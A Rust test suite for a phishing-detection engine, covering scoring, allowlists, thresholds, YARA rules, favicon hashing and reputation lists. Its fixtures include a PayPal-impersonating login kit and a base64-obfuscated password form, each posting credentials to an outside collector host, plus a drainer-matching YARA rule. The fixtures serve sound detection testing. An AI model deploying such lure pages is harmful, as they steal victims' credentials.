//! Engine behaviour end to end: scoring, determinism, allowlist, thresholds, limits,
//! time limits, favicon similarity, local state and reputation.

use std::collections::HashSet;
use std::time::Duration;

use ferretwatch_detect::filter::IndicatorSet;
use ferretwatch_detect::input::limits;
use ferretwatch_detect::{
    Engine, Key, Level, LocalState, Page, Reputation, Resource, ResourceKind, Rules, ScanOptions, Thresholds,
};
use ferretwatch_types::Coded;

const KIT: &str = r#"<html><head><title>PayPal: Log in to your account</title></head><body>
<img src="https://www.paypalobjects.com/webstatic/icon/pp258.png">
<h2>Your account has been suspended</h2><p>Verify your account within 24 hours.</p>
<form method="post" action="https://collect-gate.ru/pp/post.php">
<input type="email" name="login_email"><input type="password" name="login_password">
<input type="hidden" name="victim" value="jane@example.com"><button>Log In</button></form></body></html>"#;

fn scan(engine: &Engine, page: &Page<'_>) -> ferretwatch_detect::Verdict {
    engine.scan(page, &ScanOptions::default()).unwrap()
}

fn keys(verdict: &ferretwatch_detect::Verdict) -> Vec<&'static str> {
    verdict.findings.iter().map(|f| f.key.name()).collect()
}

#[test]
fn a_credential_kit_on_a_lookalike_domain_is_red_with_explained_findings() {
    let engine = Engine::builtin();
    let page = Page { url: "https://paypal-resolution-center.com/signin", html: Some(KIT), ..Page::default() };
    let verdict = scan(&engine, &page);
    assert_eq!(verdict.level, Level::Red, "{verdict:#?}");
    let keys = keys(&verdict);
    for key in [
        "idn_homograph_high",
        "phishing_form_cross_domain",
        "brand_title_mismatch",
        "hidden_identity_fields",
        "cross_domain_hotlink",
    ] {
        assert!(keys.contains(&key), "{key} missing from {keys:?}");
    }
    let form = verdict.findings.iter().find(|f| f.key == Key::phishing_form_cross_domain).unwrap();
    assert!(form.evidence.contains("collect-gate.ru"), "{}", form.evidence);
}

#[test]
fn the_same_kit_on_the_brands_own_host_is_not_flagged_as_impersonation() {
    let engine = Engine::builtin();
    let own = KIT.replace("https://collect-gate.ru/pp/post.php", "/signin");
    let verdict = scan(&engine, &Page { url: "https://www.paypal.com/signin", html: Some(&own), ..Page::default() });
    let keys = keys(&verdict);
    assert!(
        !keys.iter().any(|k| k.starts_with("idn_") || *k == "brand_title_mismatch" || *k == "cross_domain_hotlink"),
        "{keys:?}"
    );
    assert_ne!(verdict.level, Level::Red);
}

#[test]
fn verdicts_are_identical_to_the_byte_for_the_same_input() {
    let engine = Engine::builtin();
    let page = Page { url: "https://paypal-resolution-center.com/signin", html: Some(KIT), ..Page::default() };
    let first = serde_json::to_string(&scan(&engine, &page)).unwrap();
    for _ in 0..5 {
        assert_eq!(serde_json::to_string(&scan(&Engine::builtin(), &page)).unwrap(), first);
    }
}

#[test]
fn no_brand_domain_of_the_default_rules_is_flagged() {
    let engine = Engine::builtin();
    let mut flagged = Vec::new();
    for brand in &engine.rules().brands {
        for domain in &brand.domains {
            for url in [
                format!("https://{domain}/"),
                format!("https://www.{domain}/login"),
                format!("https://secure.{domain}/account/signin"),
            ] {
                let verdict = scan(&engine, &Page::url(&url));
                if !verdict.findings.is_empty() {
                    flagged.push(format!("{url}: {:?}", keys(&verdict)));
                }
            }
        }
    }
    assert!(flagged.is_empty(), "{flagged:#?}");
}

#[test]
fn user_allowlist_suppresses_warnings_but_not_severe_signals() {
    let engine = Engine::builtin();
    let page = Page { url: "https://paypal-resolution-center.com/signin", html: Some(KIT), ..Page::default() };
    let options = ScanOptions { user_allowlist: vec!["paypal-resolution-center.com".into()], ..ScanOptions::default() };
    let verdict = engine.scan(&page, &options).unwrap();
    assert!(verdict.allowlisted);
    assert_eq!(verdict.level, Level::Green);
    assert!(verdict.score >= 70, "score is kept for transparency");

    let listed: HashSet<String> = ["paypal-resolution-center.com".to_string()].into();
    let engine =
        Engine::builtin().with_reputation(Reputation { hosts: IndicatorSet::Exact(listed), ..Reputation::default() });
    let verdict = engine.scan(&page, &options).unwrap();
    assert!(!verdict.allowlisted);
    assert_eq!(verdict.level, Level::Red);
}

#[test]
fn user_thresholds_override_the_rules() {
    let engine = Engine::builtin();
    let page = Page::url("https://paypa1.com/");
    assert_eq!(scan(&engine, &page).level, Level::Yellow);
    let options = ScanOptions { thresholds: Some(Thresholds { yellow: 20, red: 30 }), ..ScanOptions::default() };
    assert_eq!(engine.scan(&page, &options).unwrap().level, Level::Red);
    let options = ScanOptions { thresholds: Some(Thresholds { yellow: 90, red: 95 }), ..ScanOptions::default() };
    assert_eq!(engine.scan(&page, &options).unwrap().level, Level::Green);
}

#[test]
fn oversized_input_is_truncated_and_the_verdict_says_so() {
    let engine = Engine::builtin();
    let html = format!("<title>x</title><p>{}</p>", "lorem ipsum ".repeat(limits::MAX_HTML_BYTES / 10));
    let url = format!("https://example.com/{}", "a".repeat(limits::MAX_URL_BYTES));
    let resources: Vec<Resource> = (0..limits::MAX_RESOURCES + 5)
        .map(|i| Resource { kind: ResourceKind::Image, url: format!("https://img{i}.example.net/a.png") })
        .collect();
    let verdict = scan(&engine, &Page { url: &url, html: Some(&html), resources: &resources, ..Page::default() });
    for what in ["url", "html", "resources"] {
        assert!(verdict.truncated.contains(&what), "{what} not in {:?}", verdict.truncated);
    }
    let small = scan(&engine, &Page { url: "https://example.com/", html: Some("<p>hi</p>"), ..Page::default() });
    assert!(small.truncated.is_empty());
}

#[test]
fn a_yara_timeout_yields_a_partial_verdict_not_an_error() {
    // boreal checks its clock every 10,240 candidate matches: give it a million.
    let slow = r#"rule slow : phishing_kit high { strings: $a = "ab" condition: #a > 5000000 }"#;
    let engine =
        Engine::new(Rules::builtin()).unwrap().with_yara([("slow.yar", slow)], Duration::from_nanos(1)).unwrap();
    let html = "ab".repeat(1_000_000);
    let verdict = scan(&engine, &Page { url: "https://example.com/", html: Some(&html), ..Page::default() });
    assert!(verdict.partial);
    let fast = Engine::builtin();
    assert!(!scan(&fast, &Page { url: "https://example.com/", html: Some("<p>hi</p>"), ..Page::default() }).partial);
}

#[test]
fn yara_tags_select_the_weight_and_appear_in_the_evidence() {
    let rule = r#"rule drainer : crypto_scam high { meta: description = "drainer" strings: $a = "setApprovalForAll" condition: $a }
                  rule lure : gift_card_scam low { strings: $a = "spin the wheel" condition: $a }"#;
    let engine =
        Engine::new(Rules::builtin()).unwrap().with_yara([("t.yar", rule)], Duration::from_millis(200)).unwrap();
    let verdict = scan(
        &engine,
        &Page {
            url: "https://example.com/",
            html: Some("<script>c.setApprovalForAll(x)</script><p>spin the wheel</p>"),
            ..Page::default()
        },
    );
    let high = verdict.findings.iter().find(|f| f.key == Key::yara_phishing_high).unwrap();
    assert!(high.evidence.contains("drainer (crypto_scam, high): drainer"), "{}", high.evidence);
    assert!(verdict.findings.iter().any(|f| f.key == Key::yara_phishing_low));
}

#[test]
fn invalid_yara_is_a_rules_error_naming_the_source() {
    let err = Engine::new(Rules::builtin())
        .unwrap()
        .with_yara([("broken.yar", "rule { nope")], Duration::from_millis(10))
        .unwrap_err();
    assert_eq!(err.code(), "yara_compile");
    assert!(err.to_string().contains("broken.yar"), "{err}");
}

#[test]
fn the_builtin_yara_rules_compile() {
    let engine = Engine::builtin();
    let verdict = scan(&engine, &Page { url: "https://example.com/", html: Some("<p>hello</p>"), ..Page::default() });
    assert!(verdict.findings.is_empty(), "{verdict:?}");
}

#[test]
fn a_domain_first_seen_within_a_day_is_new() {
    let engine = Engine::builtin();
    let now = 1_800_000_000;
    let fresh = Page {
        url: "https://example-shop.net/",
        state: Some(LocalState { first_seen: Some(now - 3 * 3600), now }),
        ..Page::default()
    };
    let verdict = scan(&engine, &fresh);
    assert_eq!(keys(&verdict), vec!["new_domain_local_first_seen"]);
    assert!(verdict.findings[0].evidence.contains("3 h ago"), "{}", verdict.findings[0].evidence);
    let old = Page {
        url: "https://example-shop.net/",
        state: Some(LocalState { first_seen: Some(now - 25 * 3600), now }),
        ..Page::default()
    };
    assert!(scan(&engine, &old).findings.is_empty());
    let never =
        Page { url: "https://example-shop.net/", state: Some(LocalState { first_seen: None, now }), ..Page::default() };
    assert_eq!(keys(&scan(&engine, &never)), vec!["new_domain_local_first_seen"]);
}

#[test]
fn a_favicon_that_looks_like_a_brands_is_a_mismatch_off_the_brand_host() {
    // A logo with some structure: a ring and a bar, as icons have.
    let logo = image::RgbImage::from_fn(64, 64, |x, y| {
        let (dx, dy) = (x as i32 - 24, y as i32 - 28);
        let d2 = dx * dx + dy * dy;
        if (120..=380).contains(&d2) || (44..52).contains(&x) && y > 10 {
            image::Rgb([0, 48, 135])
        } else {
            image::Rgb([255, 255, 255])
        }
    });
    let mut png = Vec::new();
    image::DynamicImage::ImageRgb8(logo.clone())
        .write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png)
        .unwrap();
    let hash = ferretwatch_detect::rules::favicon_phash(&png).unwrap();
    let mut rules = Rules::builtin();
    rules.brands.iter_mut().find(|b| b.name == "PayPal").unwrap().favicon_phashes = vec![format!("{hash:016x}")];
    let engine = Engine::new(rules).unwrap();

    // A slightly altered copy (a corner recoloured) still matches.
    let mut altered = logo;
    for x in 0..6 {
        for y in 0..6 {
            altered.put_pixel(x, y, image::Rgb([200, 210, 230]));
        }
    }
    let mut altered_png = Vec::new();
    image::DynamicImage::ImageRgb8(altered)
        .write_to(&mut std::io::Cursor::new(&mut altered_png), image::ImageFormat::Png)
        .unwrap();

    let off =
        scan(&engine, &Page { url: "https://account-review.example/", favicon: Some(&altered_png), ..Page::default() });
    let finding = off.findings.iter().find(|f| f.key == Key::brand_asset_mismatch).expect("mismatch");
    assert_eq!(finding.brand.as_deref(), Some("PayPal"));
    let own = scan(&engine, &Page { url: "https://www.paypal.com/", favicon: Some(&png), ..Page::default() });
    assert!(own.findings.is_empty());
    let garbage = scan(
        &engine,
        &Page { url: "https://account-review.example/", favicon: Some(b"not an image"), ..Page::default() },
    );
    assert!(garbage.findings.is_empty());
}

#[test]
fn reputation_hits_are_severe_and_explained() {
    let urls: HashSet<String> = ["evil.example.org/login.php".to_string()].into();
    let engine =
        Engine::builtin().with_reputation(Reputation { urls: IndicatorSet::Exact(urls), ..Reputation::default() });
    let verdict = scan(&engine, &Page::url("https://evil.example.org//login.php?session=1"));
    assert_eq!(keys(&verdict), vec!["reputation_hit"]);
    // A listing in an exact set is red on its own, as a browser's blocklist page is.
    assert_eq!(verdict.level, Level::Red);
}

#[test]
fn bad_urls_are_input_errors_with_codes() {
    let engine = Engine::builtin();
    for (url, code) in [("", "invalid_url"), ("ftp://example.com/x", "unsupported_url"), ("https://", "invalid_url")] {
        assert_eq!(engine.scan(&Page::url(url), &ScanOptions::default()).unwrap_err().code(), code, "{url}");
    }
}

#[test]
fn a_password_form_the_script_decodes_and_writes_counts_as_one() {
    use base64::Engine as _;
    let form =
        r#"<form action="https://collect.example.net/p.php"><input name=u><input type="password" name=p></form>"#;
    let encoded = base64::engine::general_purpose::STANDARD.encode(form);
    let html = format!("<html><body><script>document.write(atob('{encoded}'));</script></body></html>");
    let engine = Engine::builtin();
    let verdict = scan(&engine, &Page { url: "https://login-check.example/", html: Some(&html), ..Page::default() });
    let finding = verdict.findings.iter().find(|f| f.key == Key::phishing_form_cross_domain).expect("form found");
    assert!(finding.evidence.contains("decodes and writes"), "{}", finding.evidence);
    // The same markup in plain script text, not written anywhere, is only text.
    let inert = format!("<html><body><script>var unused = '{encoded}';</script></body></html>");
    let verdict = scan(&engine, &Page { url: "https://login-check.example/", html: Some(&inert), ..Page::default() });
    assert!(!keys(&verdict).contains(&"phishing_form_cross_domain"), "{:?}", keys(&verdict));
}

#[test]
fn a_redirect_to_a_listed_host_is_a_reputation_hit() {
    let listed: HashSet<String> = ["kit.evil.example".to_string()].into();
    let engine =
        Engine::builtin().with_reputation(Reputation { hosts: IndicatorSet::Exact(listed), ..Reputation::default() });
    let html =
        r#"<html><head><meta http-equiv="refresh" content="0; url=https://kit.evil.example/login"></head></html>"#;
    let verdict = scan(&engine, &Page { url: "https://short.example/abc", html: Some(html), ..Page::default() });
    let finding = verdict.findings.iter().find(|f| f.key == Key::reputation_hit).expect("listed redirect");
    assert!(finding.evidence.contains("redirects to https://kit.evil.example/login"), "{}", finding.evidence);
    assert_eq!(verdict.level, Level::Red);
    let clean = r#"<html><head><meta http-equiv="refresh" content="0; url=https://ok.example/"></head></html>"#;
    let verdict = scan(&engine, &Page { url: "https://short.example/abc", html: Some(clean), ..Page::default() });
    assert!(!keys(&verdict).contains(&"reputation_hit"));
}

#[test]
fn the_built_in_brands_recognise_their_logos_as_favicons() {
    let fixture = |name: &str| {
        std::fs::read(std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/icons").join(name))
            .unwrap()
    };
    let engine = Engine::builtin();
    for (file, brand) in [("paypal-32.png", "PayPal"), ("netflix-16.png", "Netflix")] {
        let icon = fixture(file);
        let page = Page { url: "https://account-review.example/", favicon: Some(&icon), ..Page::default() };
        let verdict = scan(&engine, &page);
        let finding = verdict.findings.iter().find(|f| f.key == Key::brand_asset_mismatch).expect(file);
        assert_eq!(finding.brand.as_deref(), Some(brand), "{file}");
        assert!(finding.evidence.contains("perceptual hash distance"), "{}", finding.evidence);
    }
    // Other projects' logos match no brand, and a brand's own host may show its logo.
    for file in ["rust-32.png", "wikipedia-32.png"] {
        let icon = fixture(file);
        let verdict = scan(&engine, &Page { url: "https://example.org/", favicon: Some(&icon), ..Page::default() });
        assert!(keys(&verdict).is_empty(), "{file}: {:?}", keys(&verdict));
    }
    let icon = fixture("paypal-32.png");
    let own = scan(&engine, &Page { url: "https://www.paypal.com/", favicon: Some(&icon), ..Page::default() });
    assert!(own.findings.is_empty());
}
